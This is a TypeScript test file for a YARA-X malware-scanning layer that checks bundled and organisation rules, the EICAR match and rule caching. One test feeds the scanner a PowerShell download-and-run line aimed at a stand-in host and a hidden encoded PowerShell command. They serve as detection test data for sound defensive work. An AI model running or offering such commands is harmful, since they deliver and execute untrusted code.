/** Tests for the YARA-X layer: bundled rules compile and carry metadata, EICAR exactness, script rules, organisation rules and their cache. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { CairnError } from '../../kernel/errors.ts';
import { EICAR } from './classify.ts';
import { bundledRules, bundledRulesDir, loadYaraModule, orgRules, validateOrgRules, yaraReasons } from './yara.ts';

test('every bundled rule file compiles on its own and carries score, code and description', async () => {
  const yx = await loadYaraModule();
  const dir = bundledRulesDir();
  const files = readdirSync(dir).filter((f) => f.endsWith('.yar'));
  assert.ok(files.length >= 5, files.join());
  for (const f of files) {
    const src = readFileSync(join(dir, f), 'utf8');
    const r = yx.validate(src);
    assert.deepEqual(r.errors, [], `${f}: ${JSON.stringify(r.errors)}`);
    for (const rule of src.matchAll(/\brule\s+(\w+)[\s\S]*?condition:/g)) {
      assert.match(rule[0], /score = \d+/, `${f} ${rule[1]} has no score`);
      assert.match(rule[0], /code = "[A-Z0-9_]+"/, `${f} ${rule[1]} has no code`);
      assert.match(rule[0], /description = "/, `${f} ${rule[1]} has no description`);
    }
  }
});

test('the bundled set is compiled once and cached', async () => {
  const a = bundledRules();
  const b = bundledRules();
  assert.equal(a, b);
  assert.ok((await a).ruleFiles.includes('eicar.yar'));
});

test('the EICAR rule is exact: whitespace padding matches, other trailing bytes do not', async () => {
  const rules = await bundledRules();
  const codes = async (s: string): Promise<string[]> => (await rules.scan(Buffer.from(s))).map((h) => h.code);
  assert.deepEqual(await codes(EICAR), ['EICAR']);
  assert.deepEqual(await codes(`${EICAR}\r\n\t \x1a`), ['EICAR']);
  assert.deepEqual(await codes(`${EICAR}!`), []);
  assert.deepEqual(await codes(`x${EICAR}`), []);
  const reasons = yaraReasons(await rules.scan(Buffer.from(EICAR)), 'bundled');
  assert.equal(reasons[0]?.certain, true);
});

test('script rules catch a PowerShell download-and-run and an encoded command', async () => {
  const rules = await bundledRules();
  const hits = await rules.scan(Buffer.from('$c = New-Object Net.WebClient; $c.DownloadFile("http://x.example/a.exe", "$env:TEMP\\a.exe"); Start-Process "$env:TEMP\\a.exe"'));
  assert.ok(hits.some((h) => h.code === 'SCRIPT_DOWNLOAD_EXECUTE'));
  const enc = await rules.scan(Buffer.from(`cmd /c powershell.exe -nop -w hidden -enc ${'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA'.repeat(2)}`));
  assert.ok(enc.some((h) => h.code === 'SCRIPT_ENCODED_COMMAND'));
});

test('organisation rules compile once per source, match with their own score, and bad rules are refused', async () => {
  const src = ['rule org_secret_marker { meta: score = 8 description = "internal marker" strings: $a = "CAIRN-ORG-MARKER" condition: $a }'];
  const a = await orgRules(src);
  assert.equal(await orgRules([...src]), a, 'cached by content');
  const hits = await a.scan(Buffer.from('xx CAIRN-ORG-MARKER yy'));
  assert.deepEqual(hits.map((h) => [h.code, h.score]), [['YARA_ORG_SECRET_MARKER', 8]]);
  const defaulted = await orgRules(['rule plain { strings: $a = "zzz-plain" condition: $a }']);
  assert.equal((await defaulted.scan(Buffer.from('zzz-plain')))[0]?.score, 5);
  await assert.rejects(validateOrgRules(['rule broken { condition: nope }']), (e: unknown) => e instanceof CairnError && e.code === 'CAIRN_ERR_VALIDATION');
  await assert.rejects(orgRules(['rule slow { strings: $a = /\\w+/ condition: $a }']), (e: unknown) => e instanceof CairnError && e.code === 'CAIRN_ERR_VALIDATION');
  await assert.rejects(orgRules(['rule loop { condition: for all i in (0..filesize) : (uint8(i) == 0) }']), (e: unknown) => e instanceof CairnError && /slow loop/.test(e.message));
});
